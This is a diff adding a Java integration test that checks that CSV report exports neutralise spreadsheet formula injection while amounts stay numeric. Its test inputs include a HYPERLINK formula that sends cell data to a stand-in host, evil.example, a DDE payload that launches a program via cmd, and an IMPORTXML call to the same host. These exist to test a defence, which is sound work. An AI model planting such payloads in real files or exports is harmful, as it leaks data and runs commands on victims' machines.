@@ -131,6 +131,51 @@ class ReportExportsTest extends IntegrationTest {
         assertThat(payments).hasSize(2).allSatisfy(r -> assertThat(r.get("Status")).isEqualTo("Failed"));
     }
 
+    /** Text a spreadsheet would run as a formula (OWASP's list: =, +, -, @, tab, carriage return). */
+    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")", "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1");
+
+    @Test
+    void everyCsvExportNeutralisesSpreadsheetFormulasInTextWhileNumbersStayNumbers() throws IOException {
+        for (String formula : FORMULAS) {
+            seed.fund(alice.id(), 10, "ADJUSTMENT", formula);
+        }
+        seed.transfer(alice.id(), bob.id(), 1_234, "=1+1");
+        seed.ticket(alice.id(), bob.id(), "=IMPORTXML(\"http://evil.example\",\"//a\")");
+        jdbc.sql("update payments set ref_id = '-1+1' where id = (select max(id) from payments where user_id = ?)").param(alice.id()).update();
+        seed.notification(alice.id(), alice.email(), "SENT");
+        jdbc.sql("update notifications set subject = '@SUM(1+1)' where user_id = ?").param(alice.id()).update();
+        jdbc.sql("insert into audit_log (actor, method, action, outcome, details) values (?, 'internal', 'test.formula', 'SUCCESS', '+cmd')")
+                .param(alice.email()).update();
+        actAs(ADMIN);
+        var hers = new ReportFilter(null, null, null, null, alice.email());
+
+        var transactions = csvRows(export(Dataset.TRANSACTIONS, hers));
+        var descriptions = transactions.stream().map(r -> r.get("Description")).toList();
+        for (String formula : FORMULAS) {
+            assertThat(descriptions).as("written as text, not run").contains("'" + formula);
+        }
+        assertThat(descriptions).contains("alice adjustment 0").doesNotContain(FORMULAS.toArray(String[]::new));
+        var transfer = transactions.stream().filter(r -> r.get("Description").equals("'=1+1")).findFirst().orElseThrow();
+        assertThat(transfer.get("Amount")).as("a debit stays a negative number").isEqualTo("-1234");
+        assertThat(transactions).allSatisfy(r -> {
+            assertThat(Long.parseLong(r.get("ID"))).isPositive();
+            Long.parseLong(r.get("Amount"));
+            Long.parseLong(r.get("Balance after"));
+        });
+        assertThat(csvRows(export(Dataset.TICKETS, hers))).extracting(r -> r.get("Listing"))
+                .contains("'=IMPORTXML(\"http://evil.example\",\"//a\")");
+        assertThat(csvRows(export(Dataset.PAYMENTS, hers))).extracting(r -> r.get("Reference")).contains("'-1+1");
+        assertThat(csvRows(export(Dataset.NOTIFICATIONS, hers))).extracting(r -> r.get("Subject")).contains("'@SUM(1+1)");
+        assertThat(csvRows(export(Dataset.AUDIT_LOG, hers))).extracting(r -> r.get("Details")).contains("'+cmd");
+
+        var pdf = ((ReportExports.Ready) exports.export(Dataset.PAYMENTS, ExportFormat.PDF, hers, Languages.ENGLISH)).file();
+        try (var document = Loader.loadPDF(pdf.content())) {
+            assertThat(new PDFTextStripper().getText(document)).as("a PDF runs nothing: text as typed").contains("-1+1")
+                    .doesNotContain("'-1+1");
+        }
+    }
+
     @Test
     void aUsersExportHoldsOnlyTheirOwnRowsWhateverTheFiltersSay() throws IOException {
         actAs(alice.email());
